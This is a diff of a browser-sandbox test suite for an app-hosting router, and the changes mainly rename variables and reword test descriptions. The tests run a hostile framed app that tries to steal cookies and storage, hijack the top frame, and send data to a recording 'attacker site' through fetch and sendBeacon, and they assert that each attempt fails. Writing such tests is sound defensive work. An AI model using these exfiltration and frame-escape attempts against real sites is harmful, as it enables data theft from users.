@@ -1,41 +1,41 @@
-// A hostile app, installed by its owner and opened through the router, tries to get out of its frame.
+// A hostile app that its owner installed tries to escape from its frame.
 
 import assert from "node:assert/strict";
 import { mkdirSync, rmSync, writeFileSync } from "node:fs";
 import { createServer } from "node:http";
 import { join } from "node:path";
 import { after, afterEach, before } from "node:test";
-import { app, asOwner, browser, end, ready, stack, test, until, visitor } from "./support.mjs";
+import { app, asOwner, closeBrowser, eventually, launchBrowser, newVisitor, stack, test, waitUntilReady } from "./support.mjs";
 
 const SLUG = "hostile";
 const folder = join(stack.owner.home, "apps", SLUG);
 let chrome;
 let visits = [];
-/** An attacker's site, which records every request. */
-let thief;
-const stolen = [];
+/** An attacker's site, which records all requests. */
+let attackerSite;
+const leakedRequests = [];
 
 const PAGE = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Hostile</title></head><body>
 <a id="other" href="/apps/notes/">notes</a><a id="out" target="_blank" href="/">out</a>
 <script src="attack.js"></script></body></html>`;
 
 before(async () => {
-  await ready();
-  thief = createServer((request, answer) => {
-    stolen.push(request.url);
+  await waitUntilReady();
+  attackerSite = createServer((request, answer) => {
+    leakedRequests.push(request.url);
     answer.writeHead(200, { "access-control-allow-origin": "*" }).end("thanks");
   });
-  await new Promise((listening) => thief.listen(0, "127.0.0.1", listening));
+  await new Promise((listening) => attackerSite.listen(0, "127.0.0.1", listening));
   install();
-  await until("the hostile app", async () => {
+  await eventually("the hostile app", async () => {
     const { apps } = JSON.parse((await asOwner("/api/apps")).body);
     assert.equal(apps.find(({ slug }) => slug === SLUG)?.status, "ready");
   });
-  chrome = await browser();
+  chrome = await launchBrowser();
 });
 after(async () => {
-  await end(chrome);
-  thief?.close();
+  await closeBrowser(chrome);
+  attackerSite?.close();
   rmSync(folder, { recursive: true, force: true });
 });
 afterEach(async () => {
@@ -53,13 +53,13 @@ function install(more = {}) {
 }
 
 async function open() {
-  const visit = await visitor(chrome);
+  const visit = await newVisitor(chrome);
   visits.push(visit);
-  // A session of the router, too, and something in the origin's storage that the owner's pages left there.
+  // The browser has a session of the router and data of the owner's pages in the origin's storage.
   await visit.page.goto(`${app}/`);
   await visit.page.evaluate(() => localStorage.setItem("owner", "secret"));
   await visit.page.goto(`${app}/apps/${SLUG}/`);
-  const frame = await until("the frame", async () => {
+  const frame = await eventually("the frame", async () => {
     const found = visit.page.frames().find((frame) => frame.url().includes(`/apps/${SLUG}/~`));
     assert.ok(found && (await found.evaluate(() => window.loaded)));
     return found;
@@ -67,7 +67,7 @@ async function open() {
   return { ...visit, frame };
 }
 
-/** What an expression in the app's page comes to: a value, or the name of its error. */
+/** Evaluates an expression in the app's page: returns its value, or the name of its error. */
 const attempt = (frame, source) =>
   frame.evaluate(async (source) => {
     try {
@@ -78,7 +78,7 @@ const attempt = (frame, source) =>
     }
   }, source);
 
-test("cookies, storage and the parent's page are closed to an app", async () => {
+test("an app cannot read cookies, storage or the parent page", async () => {
   const { frame, context } = await open();
   assert.ok((await context.cookies()).some(({ name }) => name === "__session"), "there is something to steal");
   for (const source of [
@@ -92,7 +92,7 @@ test("cookies, storage and the parent's page are closed to an app", async () => 
   assert.equal(await frame.evaluate(() => window.origin), "null");
 });
 
-test("the owner's routes, other apps' pages and rows are closed to an app", async () => {
+test("an app cannot use the owner's routes or other apps' pages and rows", async () => {
   const { frame } = await open();
   const token = new URL(frame.url()).pathname.split("~")[1].split("/")[0];
   const withToken = `{ headers: { authorization: "Bearer ${token}" } }`;
@@ -111,42 +111,42 @@ test("the owner's routes, other apps' pages and rows are closed to an app", asyn
     const { error, value } = await attempt(frame, source);
     assert.ok(error || [400, 401, 403, 404].includes(value), `${source}: ${JSON.stringify({ error, value })}`);
   }
-  assert.equal((await asOwner("/api/usage")).status, 200, "the owner is still signed in, and may");
+  assert.equal((await asOwner("/api/usage")).status, 200, "the owner is still signed in");
 });
 
-test("an app neither leaves its frame nor leads it to another app", async () => {
+test("an app cannot leave its frame or navigate it to another app", async () => {
   const { frame, page } = await open();
   const here = page.url();
   for (const source of [
     `top.location = "${app}/?taken"`, `top.location.replace("${app}/?taken")`, `document.querySelector("#other").click()`,
     `location.assign("/apps/notes/")`,
   ]) {
-    // A refused navigation leaves an error page of the browser in the frame, which runs nothing.
+    // After a refused navigation, the frame shows the browser's error page, which runs no scripts.
     await attempt(frame, source).catch(() => undefined);
   }
   await page.waitForTimeout(500);
   assert.equal(page.url(), here);
   assert.ok(!page.frames().some((frame) => frame.url().includes("/apps/notes/")), page.frames().map((it) => it.url()).join(" "));
   const { frame: fresh, page: second } = await open();
-  // Without a click no window opens; with one, the window has an origin of its own.
+  // Without a click no window opens; with one, the window has its own origin.
   assert.deepEqual(await attempt(fresh, `window.open("/") === null`), { value: true });
   const [popup] = await Promise.all([second.context().waitForEvent("page"), fresh.locator("#out").click()]);
   await popup.waitForLoadState();
   assert.notEqual(await popup.evaluate(() => window.origin), app);
 });
 
-test("an app's page opened on its own runs in an origin of its own", async () => {
+test("an app's page opened directly has its own origin", async () => {
   const { frame, context } = await open();
-  const alone = await context.newPage();
-  await alone.goto(frame.url());
-  assert.equal(await alone.evaluate(() => window.origin), "null");
-  const { error, value } = await attempt(alone.mainFrame(), "localStorage.owner");
+  const direct = await context.newPage();
+  await direct.goto(frame.url());
+  assert.equal(await direct.evaluate(() => window.origin), "null");
+  const { error, value } = await attempt(direct.mainFrame(), "localStorage.owner");
   assert.ok(error, String(value));
 });
 
-test("data leaves to the origins that the manifest names, and to no other", async () => {
+test("an app can send data only to the origins in its manifest", async () => {
   const { frame } = await open();
-  const { port } = thief.address();
+  const { port } = attackerSite.address();
   const site = `http://localhost:${port}`;
   const ways = [
     `fetch("${site}/fetch?rows")`, `navigator.sendBeacon("${site}/beacon?rows", "x")`,
@@ -162,30 +162,30 @@ test("data leaves to the origins that the manifest names, and to no other", asyn
   ];
   for (const source of ways) await attempt(frame, source).catch(() => undefined);
   await new Promise((done) => setTimeout(done, 300));
-  assert.deepEqual(stolen, []);
+  assert.deepEqual(leakedRequests, []);
 
   const list = JSON.parse((await asOwner("/api/apps")).body).apps;
   assert.deepEqual(list.find(({ slug }) => slug === SLUG).connect, []);
   install({ connect: ["https://api.example.com"] });
-  await until("the list that the owner sees", async () => {
+  await eventually("the updated list of apps", async () => {
     const { apps } = JSON.parse((await asOwner("/api/apps")).body);
     assert.deepEqual(apps.find(({ slug }) => slug === SLUG).connect, ["https://api.example.com"]);
   });
-  const visit = await visitor(chrome);
+  const visit = await newVisitor(chrome);
   visits.push(visit);
-  let asked = 0;
+  let requests = 0;
   await visit.context.route("https://*.example.com/**", (route) => {
-    asked += route.request().url().startsWith("https://api.example.com/") ? 1 : 100;
+    requests += route.request().url().startsWith("https://api.example.com/") ? 1 : 100;
     return route.fulfill({ status: 200, headers: { "access-control-allow-origin": "*" }, body: "x" });
   });
   await visit.page.goto(`${app}/`);
   await visit.page.getByText("connects to api.example.com").waitFor();
   await visit.page.goto(`${app}/apps/${SLUG}/`);
-  await until("a request to the named origin", async () => {
+  await eventually("a request to the named origin", async () => {
     const inner = visit.page.frames().find((frame) => frame.url().includes(`/apps/${SLUG}/~`));
     assert.deepEqual(await attempt(inner, `fetch("https://api.example.com/a")`), { value: 200 });
   });
   const inner = visit.page.frames().find((frame) => frame.url().includes(`/apps/${SLUG}/~`));
   assert.ok((await attempt(inner, `fetch("https://other.example.com/a")`)).error);
-  assert.ok(asked >= 1 && asked < 100, String(asked));
+  assert.ok(requests >= 1 && requests < 100, String(requests));
 });
